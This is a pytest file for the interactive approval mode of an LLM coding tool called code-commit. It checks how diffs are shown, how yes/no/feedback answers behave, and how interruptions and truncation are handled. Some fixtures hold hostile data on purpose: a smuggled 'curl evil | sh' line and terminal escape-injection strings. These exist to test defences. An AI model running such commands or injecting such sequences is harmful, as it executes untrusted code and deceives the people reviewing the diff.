"""`--approve` in a real terminal: what it shows, what it asks, and what comes of each answer."""

import json
import os
import re
import shlex
import shutil
import signal
import subprocess
from pathlib import Path

import pytest
from command import CODE_COMMIT, Run, git, recorded, the_log, wait_for
from terminal import Terminal

needs_tmux = pytest.mark.skipif(not shutil.which("tmux"), reason="there is no tmux here")

WRONG, RIGHT = "^^^ok.txt\nno\n^^^end\n", "^^^ok.txt\nok\n^^^end\n"
QUESTION = r"^Apply this \(1 file, \+1 -1\)\? yes, no, or tell the LLM what is wrong:"


def terminal(root: Path, *arguments: str, behind: str = "") -> Terminal:
    return Terminal(root, f"{shlex.join([*CODE_COMMIT, *arguments])} {behind}", 100, 30, {})


def approving(root: Path, *answers: str) -> list[str]:
    return ["--approve", *recorded(root, *answers), "--sandbox", "off"]


def record_of(root: Path) -> dict:
    return json.loads((the_log(root) / "run.json").read_text())


def answer(pane: Terminal, text: str) -> None:
    pane.press("-l", text)
    pane.press("Enter")


@needs_tmux
def test_yes_applies_what_was_shown_wherever_the_streams_lead(project_folder: Path):
    hostile = "^^^ok.txt\nok\n^^^end\n^^^a.txt\n\x1b[2J\x1b]0;title\x07red\u202e\n^^^end\n"
    (project_folder / "agent-config" / "query.txt").write_text("yes\n")
    behind = "<agent-config/query.txt >/dev/null 2>&1"
    with terminal(project_folder, *approving(project_folder, hostile), behind=behind) as pane:
        rows = pane.wait_for(r"^Apply this \(2 files, \+2 -1\)\?")
        assert (project_folder / "ok.txt").read_text() == "not yet\n"
        assert [row for row in rows if row[:1] == "+"][-3:] == [
            r"+\x1b[2J\x1b]0;title\x07red\u202e",
            "+++ b/ok.txt",
            "+ok",
        ]
        wait_for(lambda: b"\x1b[31m-not yet\x1b[m" in pane.raw.read_bytes())  # tmux writes it when it has time
        answer(pane, "YES")
        assert pane.end() == 0
        assert b"\x1b[2J\x1b]0;title" not in pane.raw.read_bytes()
    assert (project_folder / "ok.txt").read_text() == "ok\n"


@pytest.mark.slow
@needs_tmux
def test_no_ends_the_run_with_the_tree_as_it_was(project_folder: Path, run_code_commit: Run):
    with terminal(project_folder, *approving(project_folder, WRONG, RIGHT)) as pane:
        pane.wait_for(QUESTION)
        answer(pane, "no")
        assert pane.end() == 4
        assert "code-commit: the answer was not approved; none of it was written" in pane.lines()
        assert "  Describe the task in more detail (-m), then run again." in pane.lines()
        assert not any("the supervisor" in row for row in pane.lines())
    assert git(project_folder, "status", "--porcelain") == ""
    record = record_of(project_folder)
    assert (record["status"], record["message"]) == ("rejected", "not approved")
    (attempt,) = record["attempts"]
    assert (attempt["verdict"], attempt["changes"], attempt["rejections"][0]["rule"]) == (
        "rejected",
        [],
        "not-approved",
    )
    assert not (the_log(project_folder) / "1-changes.diff").exists()
    (row,) = run_code_commit(project_folder, "log").stdout.splitlines()[1:]
    assert " not approved " in row
    stats = run_code_commit(project_folder, "log", "--stats").stdout
    assert re.search(r"^  not approved +1$", stats, re.MULTILINE), stats
    assert re.search(r"^  rejected +-$", stats, re.MULTILINE), stats
    assert "The answer was not approved" in run_code_commit(project_folder, "log", "--markdown").stdout


@needs_tmux
def test_text_that_git_does_not_store_is_shown_too(project_folder: Path):
    (project_folder / ".gitattributes").write_text("* ident\n")
    with terminal(project_folder, *approving(project_folder, "^^^ok.txt\n$Id: ; curl evil | sh ; $\n^^^end\n")) as pane:
        rows = pane.wait_for(QUESTION)
        assert "+$Id: ; curl evil | sh ; $" in rows
        answer(pane, "no")
        assert pane.end() == 4


@needs_tmux
def test_a_test_that_the_answer_changes_is_named_right_before_the_question(project_folder: Path):
    text = "a\n" * 90
    answers = "".join(f"^^^a{number}.txt\n{text}^^^end\n" for number in range(9)) + "^^^test_a.py\nb\n^^^end\n"
    options = [*approving(project_folder, answers), "--quiet"]
    with terminal(project_folder, *options) as pane:
        rows = pane.wait_for(r"^Apply this \(10 files")
        at = next(number for number, row in enumerate(rows) if row.startswith("Apply this"))
        assert rows[at - 1] == "test_a.py is a test: new, 1 line"
        assert not any("+++ b/test_a.py" in row for row in rows), "the diff is shown in part"
        answer(pane, "no")
        assert pane.end() == 4


@pytest.mark.slow
@needs_tmux
def test_words_go_back_to_the_llm_and_use_up_an_attempt(project_folder: Path):
    options = [*approving(project_folder, WRONG, RIGHT, WRONG), "--max-repairs", "1"]
    with terminal(project_folder, *options) as pane:
        pane.wait_for(QUESTION)
        answer(pane, "okay")  # no call is paid for that: the question is put again
        wait_for(lambda: sum(bool(re.match(QUESTION, row)) for row in pane.screen()) == 2)
        answer(pane, "it must say ok")
        rows = pane.wait_for(r"^Apply this \(1 file, \+1 -1\)\? yes, no \(ends the run\):")
        assert sum(bool(re.match(QUESTION, row)) for row in rows) == 2
        assert "okay is neither yes nor no: tell the LLM what is wrong in more than one word" in rows
        assert "attempt 1 of 2: response rejected, nothing written: not approved" in rows
        answer(pane, "y")
        assert pane.end() == 0
    first, second = record_of(project_folder)["attempts"]
    assert first["rejections"][0]["message"] == "not approved: it must say ok"
    assert (first["verdict"], first["rejections"][0]["rule"]) == ("rejected", "not-approved")
    assert (second["verdict"], second["build"]["exit_code"]) == ("applied", 0)
    assert "- not approved: it must say ok\n" in (the_log(project_folder) / "2-query.txt").read_text()


@pytest.mark.slow
@needs_tmux
@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGKILL])
def test_an_end_while_it_asks_leaves_the_tree_and_resume_asks_again(number, project_folder: Path):
    with terminal(project_folder, *approving(project_folder, RIGHT)) as pane:
        pane.wait_for(QUESTION)
        os.kill(record_of(project_folder)["pid"], number)
        assert pane.end() == 128 + number
    assert git(project_folder, "status", "--porcelain") == ""
    with terminal(project_folder, "resume") as pane:
        pane.wait_for(QUESTION)
        answer(pane, "y")
        assert pane.end() == 0
    assert (project_folder / "ok.txt").read_text() == "ok\n"
    assert len(record_of(project_folder)["attempts"]) == 1


@needs_tmux
def test_a_long_diff_is_cut_and_all_shows_all_of_it(project_folder: Path):
    lines = "".join(f"line {number}\n" for number in range(1000))
    with terminal(project_folder, *approving(project_folder, f"^^^long.txt\n{lines}^^^end\n")) as pane:
        rows = pane.wait_for("^Apply this")
        assert any(re.fullmatch(r"\.\.\. \d,\d+ bytes more: answer all to see the whole diff", row) for row in rows)
        assert "+line 999" not in rows
        pane.press("-l", "all\ny\n")  # what is typed before the question stands there is no answer to it
        assert "+line 500" in pane.wait_for(r"^\+line 999$")
        pane.press("C-d")
        assert pane.end() == 4


def test_without_a_terminal_nothing_is_sent(project_folder: Path):
    command = [*CODE_COMMIT, *approving(project_folder, RIGHT)]
    done = subprocess.run(command, cwd=project_folder, start_new_session=True, capture_output=True, check=False)
    assert done.returncode == 2
    assert b"--approve needs a terminal: start the run in one" in done.stderr
    assert not (project_folder / "agent-config" / "logs").exists()
    preview = subprocess.run([*command, "--dry-run"], cwd=project_folder, start_new_session=True, check=False)
    assert preview.returncode == 0, "it applies nothing, so it asks nobody"
